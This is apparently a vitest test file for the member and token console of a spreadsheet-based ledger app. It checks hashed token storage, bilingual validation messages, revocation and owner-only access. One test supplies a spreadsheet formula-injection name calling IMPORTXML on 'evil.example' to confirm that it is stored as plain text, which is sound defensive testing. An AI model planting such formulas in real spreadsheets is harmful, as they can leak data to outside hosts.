import { describe, expect, it, vi } from 'vitest';
import { nodeSha256 } from '../../support/ledger-fixture.ts';
import { consoleFixture } from './console-fixture.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 120_000 });

// Console › Members, run from the bundle on the doubles as the sidebar calls it.
describe('console members', () => {
  it('issues the owner’s own coordinator token: shown once, only its hash stored, and the console then records as them', async () => {
    const f = await consoleFixture();
    const before = f.call('consoleState');
    expect(before).toMatchObject({ ok: true, members: [] });
    expect(before.me).toBeUndefined();
    const token = f.issueMe();
    expect(token).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(f.world.store.state)).not.toContain(token);
    expect(f.membersRows()[1]).toContain(nodeSha256(`cocreate:token:v1:${token}`));
    expect(f.post({ v: 1, op: 'whoami', token })).toMatchObject({ ok: true, member: { name: 'Marc Gagnon', side: 'government', roles: ['coordinator', 'attendee'] } });
    const after = f.call('consoleState');
    expect(after.me).toMatchObject({ name: 'Marc Gagnon', side: 'government' });
    expect(JSON.stringify(after)).not.toContain('tokenHash');
  });

  it.each([
    ['an empty name', { name: '  ', side: 'csn', roles: ['attendee'] }, 'name', 'This field is required.', 'Ce champ est obligatoire.'],
    ['no side', { name: 'Ann', side: '', roles: ['attendee'] }, 'side', 'Choose the member’s side.', 'Choisissez la partie du membre.'],
    ['no role', { name: 'Ann', side: 'csn', roles: [] }, 'roles', 'Choose at least one role.', 'Choisissez au moins un rôle.'],
    ['an unknown role', { name: 'Ann', side: 'csn', roles: ['boss'] }, 'roles[0]', 'Choose one of: drafter, attendee, coordinator, gov_signatory, csn_signatory.', 'Choisissez parmi : drafter, attendee, coordinator, gov_signatory, csn_signatory.'],
    ['a government signatory on the CSN side', { name: 'Ann', side: 'csn', roles: ['gov_signatory'] }, 'roles', 'Only a member of the government side can be a government signatory.', 'Seul un membre de la partie gouvernementale peut être signataire du gouvernement.'],
    ['“this is me” without the coordinator role', { name: 'Ann', side: 'csn', roles: ['attendee'], isMe: true }, 'roles', 'The console can only record as an active member with the Coordinator role.', 'La console ne peut enregistrer qu’au nom d’un membre actif ayant le rôle Coordonnateur.'],
  ])('refuses %s in English and French, naming the field, and writes nothing', async (_case, input, path, en, fr) => {
    const f = await consoleFixture();
    const answer = f.call('consoleIssueToken', input);
    expect(answer).toEqual({ ok: false, errors: [{ path, message: { en, fr } }] });
    expect(f.membersRows()).toHaveLength(1);
  });

  it('stores a hostile name as text, never a formula', async () => {
    const f = await consoleFixture();
    const answer = f.call('consoleIssueToken', { name: '=IMPORTXML("https://evil.example","//a")', org: '+1 555', side: 'other', roles: ['attendee'] });
    expect(answer.ok).toBe(true);
    expect(JSON.stringify(f.world.store.state)).not.toMatch(/"formula"/);
    expect((f.call('consoleState').members as Array<{ name: string }>)[0]!.name).toBe('=IMPORTXML("https://evil.example","//a")');
  });

  it('revokes a member from the list: their token is refused, their row stays; the console’s own record cannot be revoked', async () => {
    const f = await consoleFixture();
    const mine = f.issueMe();
    const ann = f.call('consoleIssueToken', { name: 'Ann Lee', org: 'Open North', side: 'csn', roles: ['attendee'] }).value as { token: string; memberId: string };
    // Her token in use first: the token index (cached before the lock) knows it, and must forget it on revocation.
    expect(f.post({ v: 1, op: 'whoami', token: ann.token })).toMatchObject({ ok: true });
    expect(f.call('consoleRevokeToken', ann.memberId)).toEqual({ ok: true, value: null });
    expect(f.post({ v: 1, op: 'whoami', token: ann.token })).toMatchObject({ ok: false, error: { code: 'unauthorized' } });
    expect(f.membersRows()).toHaveLength(3);
    const state = f.call<{ members: Array<{ name: string; revokedAt?: string }>; me: { id: string } }>('consoleState');
    expect(state.members.find((m) => m.name === 'Ann Lee')?.revokedAt).toMatch(/^\d{4}-/);
    expect(f.call('consoleRevokeToken', state.me.id)).toMatchObject({ ok: false, errors: [{ message: { en: expect.stringMatching(/cannot revoke/) } }] });
    expect(f.post({ v: 1, op: 'whoami', token: mine }).ok).toBe(true);
    expect(f.call('consoleRevokeToken', ann.memberId)).toMatchObject({ ok: false });
  });

  it.each([
    ['an editor who is not the owner', { activeUserEmail: 'editor@example.org' }, undefined, /Only the owner/],
    ['an anonymous user', { activeUserEmail: '' }, undefined, /did not say who you are/],
    ['any user of a ledger in a shared drive', {}, null, /shared drive/],
  ])('refuses %s: no state, no token, no write', async (_case, session, owner, why) => {
    const f = await consoleFixture({ session });
    if (owner === null) f.world.store.state.ownerEmail = null;
    expect(f.call('consoleState')).toMatchObject({ ok: false, errors: [{ message: { en: expect.stringMatching(why) } }] });
    expect(f.call('consoleIssueToken', { name: 'Eve', side: 'government', roles: ['coordinator'], isMe: true })).toMatchObject({ ok: false });
    expect(f.call('consoleSaveWorkplan', { phases: [] })).toMatchObject({ ok: false });
    expect(f.membersRows()).toHaveLength(1);
    expect(f.logRows()).toHaveLength(1);
  });

  it('links an existing coordinator record, and only a coordinator’s', async () => {
    const f = await consoleFixture({ locale: 'fr_CA' });
    const attendee = f.call('consoleIssueToken', { name: 'Ann', side: 'csn', roles: ['attendee'] }).value as { memberId: string };
    const coordinator = f.call('consoleIssueToken', { name: 'Marc', side: 'government', roles: ['coordinator'] }).value as { memberId: string };
    expect(f.call('consoleLinkMe', attendee.memberId)).toMatchObject({ ok: false });
    expect(f.call('consoleLinkMe', coordinator.memberId)).toEqual({ ok: true, value: null });
    expect(f.call('consoleState')).toMatchObject({ language: 'fr', me: { name: 'Marc' } });
  });

  it('opens from the menu as a sidebar titled in the user’s language', async () => {
    const f = await consoleFixture({ locale: 'fr', htmlFiles: { Console: '<!doctype html><p>console</p>' } });
    f.call('openCoordinatorConsole');
    expect(f.world.ui.events.at(-1)).toMatchObject({ kind: 'sidebar', title: 'Console Cocreate', html: '<!doctype html><p>console</p>' });
  });
});
